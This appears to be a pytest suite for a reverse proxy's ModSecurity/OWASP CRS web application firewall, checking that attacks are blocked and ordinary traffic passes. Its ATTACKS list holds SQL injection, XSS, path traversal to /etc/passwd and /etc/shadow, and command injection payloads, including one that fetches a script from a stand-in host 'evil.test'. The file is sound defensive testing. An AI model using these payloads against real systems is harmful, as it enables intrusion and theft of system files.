"""mode: http — the `waf` filter: ModSecurity (libmodsecurity3) with Debian's OWASP CRS.
Classic attacks (SQL injection, XSS, path traversal, command injection) in the query, the
header fields and form/JSON bodies are blocked at paranoia 1 with a 403 naming the request
id; a corpus of ordinary API and browser requests passes untouched (no false positive);
detection_only lets everything through but logs and counts the matched rules; a body over
max_body_buffered is refused 413; the held body reaches the server whole (and again on a
retry); HTTP/1 and HTTP/2 (h2c prior knowledge, curl) clients alike."""
import http.client
import json
import re
import subprocess

import pytest

from conftest import LOOPBACK, free_port, wait_for
from http_backend import CLOSE, http_config
from test_h2 import h2_request

HOST = "app.example.com"
BROWSER = {
    "Host": HOST,
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/120.0.0.0 Safari/537.36",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
              "*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.9,fr;q=0.8",
    "Accept-Encoding": "gzip, deflate, br",
}
API = {"Host": HOST, "User-Agent": "okhttp/4.12.0", "Accept": "application/json"}

ROUTES = """\
- match: { path_prefix: /detect/ }
  backend: app
  waf: { mode: detection_only }
- match: { path_prefix: /off/ }
  backend: app
- match: { path_prefix: /graphql }
  backend: app
  waf: { rules: "SecRuleRemoveById 932100 942190" }
- match: { path_prefix: /retry/ }
  backend: app
  waf: {}
  retry: { tries: 2, on: [reset] }
- backend: app
  waf: { paranoia: 1 }
"""


@pytest.fixture
def waf(strata, origin):
    a = origin("app")
    port, admin = free_port(), free_port()
    s = strata(http_config(port, {"app": {"servers": [a.address]}}, routes=ROUTES,
                           admin_port=admin,
                           http_extra="access_log: { format: json }\nmax_body_buffered: 64k\n"
                                      "h2: { cleartext: true, initial_window: 16k }"),
               listen_ports=[port])
    return s, port, admin, a


def request(port, method, target, headers, body=None):
    c = http.client.HTTPConnection(LOOPBACK, port, timeout=10)
    try:
        c.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        for k, v in headers.items():
            c.putheader(k, v)
        if body is not None:
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def form(fields):
    return dict(API, **{"Content-Type": "application/x-www-form-urlencoded"}), fields.encode()


def js(obj):
    return dict(API, **{"Content-Type": "application/json"}), json.dumps(obj).encode()


# method, target, headers, body: each a classic attack CRS paranoia 1 blocks
ATTACKS = [
    ("GET", "/items?id=1'%20OR%20'1'%3D'1", API, None),
    ("GET", "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--", API, None),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", BROWSER, None),
    ("GET", "/p?next=javascript:alert(1)%3Cimg%20src=x%20onerror=alert(1)%3E", BROWSER, None),
    ("GET", "/download?file=../../../../etc/passwd", API, None),
    ("GET", "/download?file=..%2f..%2f..%2fetc%2fshadow", API, None),
    ("GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", API, None),
    ("GET", "/ping?host=8.8.8.8%7C%7Cwget%20http://evil.test/x.sh", API, None),
    ("GET", "/", dict(API, **{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}), None),
    ("GET", "/", dict(API, **{"Cookie": "id=1' UNION SELECT password FROM users--"}), None),
    ("GET", "/", dict(BROWSER, **{"Referer": "http://x.test/<script>alert(1)</script>"}), None),
    ("POST", "/login", *form("user=admin'%20OR%201%3D1--&pass=x")),
    ("POST", "/comment", *form("text=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
    ("POST", "/ping", *form("host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd")),
    ("POST", "/api/users", *js({"name": "x' OR '1'='1' --", "q": "1 UNION SELECT 1,2,3--"})),
    ("POST", "/api/notes", *js({"body": "<script>alert(1)</script>"})),
    ("POST", "/api/files", *js({"path": "../../../../etc/passwd"})),
    ("PUT", "/api/exec", *js({"cmd": "; cat /etc/passwd"})),
]

# ordinary API and browser traffic: every one must pass (no false positive)
CORPUS = [
    ("GET", "/", BROWSER, None),
    ("GET", "/index.html", BROWSER, None),
    ("GET", "/static/app.3f9a1c.js", dict(BROWSER, Accept="*/*"), None),
    ("GET", "/static/css/main.css?v=1.2.3", dict(BROWSER, Accept="text/css,*/*;q=0.1"), None),
    ("GET", "/images/logo.png", dict(BROWSER, Accept="image/avif,image/webp,*/*"), None),
    ("GET", "/favicon.ico", BROWSER, None),
    ("GET", "/search?q=running+shoes&page=2&sort=price_asc", BROWSER, None),
    ("GET", "/search?q=caf%C3%A9+cr%C3%A8me&lang=fr", BROWSER, None),
    ("GET", "/products?category=books&min_price=10&max_price=50&in_stock=true", BROWSER, None),
    ("GET", "/blog/2024/05/how-to-choose-a-load-balancer", BROWSER, None),
    ("GET", "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", BROWSER, None),
    ("GET", "/account", dict(BROWSER, Cookie="_ga=GA1.2.123456789.1700000000; "
                             "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl; "
                             "theme=dark"), None),
    ("GET", "/dashboard", dict(BROWSER, **{
        "sec-ch-ua": '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"',
        "sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": '"Linux"', "Sec-Fetch-Dest": "document",
        "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin", "Sec-Fetch-User": "?1",
        "Upgrade-Insecure-Requests": "1", "Referer": "https://app.example.com/login"}), None),
    ("GET", "/docs/api?section=authentication", BROWSER, None),
    ("GET", "/maps?lat=48.8566&lng=2.3522&zoom=12", BROWSER, None),
    ("GET", "/calendar?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59Z", BROWSER, None),
    ("GET", "/api/v1/users", API, None),
    ("GET", "/api/v1/users/42", API, None),
    ("GET", "/api/v1/users?limit=20&offset=40&fields=id,name,email", API, None),
    ("GET", "/api/v1/orders?status=shipped&created_after=2024-03-01", API, None),
    ("GET", "/api/v1/items?ids=1,2,3,4&expand=owner", API, None),
    ("GET", "/api/v1/me", dict(API, Authorization="Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9."
                               "eyJzdWIiOiJ1c2VyLTEyMyIsImV4cCI6MTcwMDAwMDAwMH0.abc-def_ghi"),
     None),
    ("GET", "/api/v1/reports/daily.csv", dict(API, Accept="text/csv"), None),
    ("GET", "/healthz", {"Host": HOST, "User-Agent": "kube-probe/1.29"}, None),
    ("HEAD", "/api/v1/users/42", API, None),
    ("OPTIONS", "/api/v1/users", dict(API, **{"Origin": "https://web.example.com",
                                              "Access-Control-Request-Method": "POST"}), None),
    ("POST", "/api/v1/users", *js({"name": "Alice Martin", "email": "alice@example.com",
                                   "age": 31, "roles": ["admin", "editor"]})),
    ("POST", "/api/v1/orders", *js({"items": [{"sku": "BK-1021", "qty": 2},
                                              {"sku": "PN-22", "qty": 1}],
                                    "shipping": {"street": "12 Rue de la Paix",
                                                 "city": "Paris", "zip": "75002"}})),
    ("POST", "/api/v1/search", *js({"query": "wireless headphones", "filters":
                                    {"brand": ["Sony", "Bose"], "price": {"lte": 300}}})),
    ("POST", "/api/v1/events", *js({"type": "page_view", "url": "https://app.example.com/",
                                    "ts": 1700000000123, "ua": "Mozilla/5.0"})),
    ("POST", "/api/v1/comments", *js({"text": "Great article, thanks! I'd love to see more "
                                              "about load balancing."})),
    ("POST", "/api/v1/login", *js({"username": "bob", "password": "S3cure!Passw0rd"})),
    ("POST", "/api/v1/feedback", *js({"rating": 5, "tags": ["fast", "friendly"],
                                      "comment": "Delivery was quick; packaging good."})),
    ("PUT", "/api/v1/users/42", *js({"name": "Alice M.", "email": "alice.m@example.com"})),
    ("PATCH", "/api/v1/users/42", *js({"active": False})),
    ("DELETE", "/api/v1/sessions/abc123", API, None),
    ("POST", "/login", *form("email=alice%40example.com&password=hunter2&remember=on")),
    ("POST", "/signup", *form("first_name=Jean&last_name=O%27Neil&email=jean%40example.com"
                              "&country=IE&newsletter=1")),
    ("POST", "/search", *form("q=red+shoes&size=42&color=red")),
    ("POST", "/contact", *form("name=Maria&subject=Order+%23123&message=Hello%2C+my+order+"
                               "has+not+arrived+yet.+Can+you+help%3F")),
    ("POST", "/checkout", *form("card_name=Ann+Lee&qty=3&coupon=SPRING10&notes=Leave+at+door")),
    ("POST", "/api/v1/upload-meta", *js({"filename": "report-2024.pdf", "size": 52341,
                                         "mime": "application/pdf"})),
    ("POST", "/api/v1/bulk", *js([{"id": i, "value": f"item-{i}"} for i in range(20)])),
]


def waf_lines(s, n):
    return wait_for(lambda: (lambda ls: ls if len(ls) >= n else None)(
        [json.loads(x) for x in s.stdout().splitlines() if x.startswith("{")]), 5,
        what=f"{n} access log lines")


def test_attacks_blocked_with_request_id(waf):
    s, port, admin, origin = waf
    missed = []
    for method, target, headers, body in ATTACKS:
        status, out = request(port, method, target, headers, body)
        if status != 403 or not re.search(rb"request id [0-9a-f]{32}", out):
            missed.append((method, target, status, out[:80]))
    assert not missed, missed
    assert origin.requests == []  # none reached the server
    lines = waf_lines(s, len(ATTACKS))
    assert all(ln["status"] == 403 and ln.get("waf_rules") for ln in lines), lines
    ids = ",".join(ln["waf_rules"] for ln in lines)
    for rule in ("942100", "941100", "930120", "932160", "913100"):
        assert rule in ids, (rule, ids)
    m = s.metrics(admin)
    assert m.get("strata_listener_waf_requests_total", listener="web",
                 outcome="blocked") == len(ATTACKS)
    for cat in ("sqli", "xss", "lfi", "rce", "scanner"):
        assert m.get("strata_listener_waf_rule_matches_total", listener="web",
                     category=cat) >= 1, cat


def test_ordinary_traffic_passes(waf):
    s, port, admin, origin = waf
    assert len(CORPUS) >= 40
    refused = []
    for method, target, headers, body in CORPUS:
        status, out = request(port, method, target, headers, body)
        if status != 200:
            refused.append((method, target, status, out[:100]))
    assert not refused, refused
    assert origin.wait_requests(len(CORPUS))
    # held bodies reach the server whole
    posted = [r for r in origin.requests if r.method in ("POST", "PUT", "PATCH")]
    sent = [b for m, _, _, b in CORPUS if m in ("POST", "PUT", "PATCH")]
    assert sorted(r.body for r in posted) == sorted(sent)
    lines = waf_lines(s, len(CORPUS))
    assert not [ln for ln in lines if ln.get("waf_rules")], "a rule matched ordinary traffic"
    m = s.metrics(admin)
    assert m.get("strata_listener_waf_requests_total", listener="web",
                 outcome="passed") == len(CORPUS)


def test_detection_only_passes_and_logs(waf):
    s, port, admin, origin = waf
    status, out = request(port, "GET", "/detect/items?id=1'%20OR%20'1'%3D'1", API)
    assert status == 200, out
    hdrs, body = form("user=admin'%20OR%201%3D1--")
    status, out = request(port, "POST", "/detect/login", hdrs, body)
    assert status == 200, out
    assert origin.wait_requests(2) and origin.requests[1].body == body
    lines = waf_lines(s, 2)
    assert all("942100" in ln.get("waf_rules", "") for ln in lines), lines
    assert s.wait_log(r"waf: ModSecurity: Warning.*942100")
    m = s.metrics(admin)
    assert m.get("strata_listener_waf_requests_total", listener="web", outcome="detected") == 2
    assert m.get("strata_listener_waf_requests_total", listener="web", outcome="blocked") == 0


def test_body_over_max_body_buffered_is_413(waf):
    s, port, admin, origin = waf
    big = b"a=" + b"x" * (70 * 1024)
    status, _ = request(port, "POST", "/upload", form("")[0], big)
    assert status == 413
    # chunked, no length known in advance: refused once the held bytes pass the limit
    c = http.client.HTTPConnection(LOOPBACK, port, timeout=10)
    try:
        c.putrequest("POST", "/upload", skip_host=True, skip_accept_encoding=True)
        for k, v in form("")[0].items():
            c.putheader(k, v)
        c.putheader("Transfer-Encoding", "chunked")
        c.endheaders()
        for _ in range(10):
            try:
                c.send(b"2000\r\n" + b"y" * 0x2000 + b"\r\n")
            except OSError:
                break
        r = c.getresponse()
        assert r.status == 413
    finally:
        c.close()
    # a route without the WAF streams bodies of any size
    status, out = request(port, "POST", "/off/upload", form("")[0], big)
    assert status == 200, out
    assert origin.wait_requests(1) and origin.requests[0].body == big


def test_held_body_sent_again_on_retry(strata, origin):
    """A PUT whose first server closes without answering is retried (retry on reset) with
    the body the WAF held."""
    first = origin("first", respond=lambda req: CLOSE)
    second = origin("second")
    port = free_port()
    s = strata(http_config(port, {"app": {"servers": [first.address, second.address],
                                          "extra": "balance: round_robin"}}, routes=ROUTES,
                           workers=1, http_extra="h2: { cleartext: true }"),
               listen_ports=[port])
    body = json.dumps({"name": "Alice", "email": "alice@example.com"}).encode()
    hdrs = dict(API, **{"Content-Type": "application/json"})
    statuses = [request(port, "PUT", "/retry/users/1", hdrs, body)[0] for _ in range(2)]
    h2_hdrs = [("content-type", "application/json"), ("content-length", str(len(body)))]
    statuses += [h2_request(port, "/retry/users/1", method="PUT", body=body, authority=HOST,
                            headers=h2_hdrs)[0] for _ in range(2)]
    assert statuses == [200] * 4
    assert second.wait_requests(4)
    assert [r.body for r in second.requests] == [body] * 4
    assert len(first.requests) >= 2 and all(r.body == body for r in first.requests)


def curl_h2(port, *args):
    out = subprocess.run(["curl", "-s", "--http2-prior-knowledge", "-o", "-", "-w",
                          "\n%{http_code} %{http_version}", "-H", f"Host: {HOST}",
                          "-H", "User-Agent: curl/7.88.1", "-H", "Accept: */*",
                          *args], capture_output=True, timeout=20, check=True).stdout
    body, _, tail = out.rpartition(b"\n")
    code, version = tail.decode().split()
    assert version == "2"
    return int(code), body


def test_http2_clients(waf):
    s, port, admin, origin = waf
    base = f"http://{LOOPBACK}:{port}"
    code, body = curl_h2(port, f"{base}/items?id=1'%20OR%20'1'%3D'1")
    assert code == 403 and re.search(rb"request id [0-9a-f]{32}", body)
    code, _ = curl_h2(port, "-H", "Content-Type: application/json", "--data-binary",
                      '{"q": "<script>alert(1)</script>"}', f"{base}/api/notes")
    assert code == 403
    code, _ = curl_h2(port, "--data-binary", "user=admin'%20OR%201%3D1--", f"{base}/login")
    assert code == 403
    ok = json.dumps({"name": "Alice Martin", "email": "alice@example.com"})
    code, body = curl_h2(port, "-H", "Content-Type: application/json", "--data-binary", ok,
                         f"{base}/api/v1/users")
    assert code == 200, body
    assert origin.wait_requests(1) and origin.requests[0].body == ok.encode()
    # over max_body_buffered (curl reads a reset after the answer as an error: python3-h2)
    status, _, body = h2_request(port, "/upload", method="POST", body=b"x" * (70 * 1024),
                                 authority=HOST, headers=[("content-length", str(70 * 1024))])
    assert status == 413 and b"max_body_buffered" in body
    # no content-length: held as the window reopens, refused once past the limit
    status, _, body = h2_request(port, "/upload", method="POST", body=b"x" * (70 * 1024),
                                 authority=HOST)
    assert status == 413 and b"max_body_buffered" in body
    # a body larger than the stream's window (16k here), within the limit: held whole, sent
    form_body = b"a=" + b"y" * (60 * 1024)
    status, _, body = h2_request(port, "/upload", method="POST", body=form_body, authority=HOST,
                                 headers=[("content-type", "application/x-www-form-urlencoded")])
    assert status == 200, body
    assert origin.wait_requests(2) and origin.requests[1].body == form_body


def test_route_rules_exclude_a_false_positive(waf):
    """GraphQL queries trip CRS rules 932100 and 942190 at paranoia 1 (a known false
    positive); a route's own `rules` exclude them there."""
    s, port, admin, origin = waf
    hdrs, body = js({"query": "query GetUser($id: ID!) { user(id: $id) { id name } }",
                     "variables": {"id": "42"}})
    assert request(port, "POST", "/api/graphql", hdrs, body)[0] == 403
    status, out = request(port, "POST", "/graphql", hdrs, body)
    assert status == 200, out
    assert origin.wait_requests(1) and origin.requests[0].body == body


def test_inspect_response_logs_response_matches(strata, origin):
    """inspect_response: the response head goes through phase 3; what matches is logged
    (here a rule of the route's own on a field the origin sets), the response passes."""
    a = origin("app")
    port = free_port()
    routes = """\
- backend: app
  waf:
    inspect_response: true
    rules: "SecRule RESPONSE_HEADERS:x-backend \\"@streq app\\" \\"id:100001,phase:3,log,pass\\""
"""
    s = strata(http_config(port, {"app": {"servers": [a.address]}}, routes=routes,
                           http_extra="access_log: { format: json }"), listen_ports=[port])
    status, out = request(port, "GET", "/x", API)
    assert status == 200, out
    assert waf_lines(s, 1)[0].get("waf_rules") == "100001"


def test_body_that_does_not_parse_is_400(waf):
    s, port, admin, origin = waf
    hdrs = dict(API, **{"Content-Type": "application/json"})
    status, out = request(port, "POST", "/api/v1/users", hdrs, b'{"name": "Alice", ')
    assert status == 400 and b"blocked by the WAF (request id" in out, out
    assert origin.requests == []
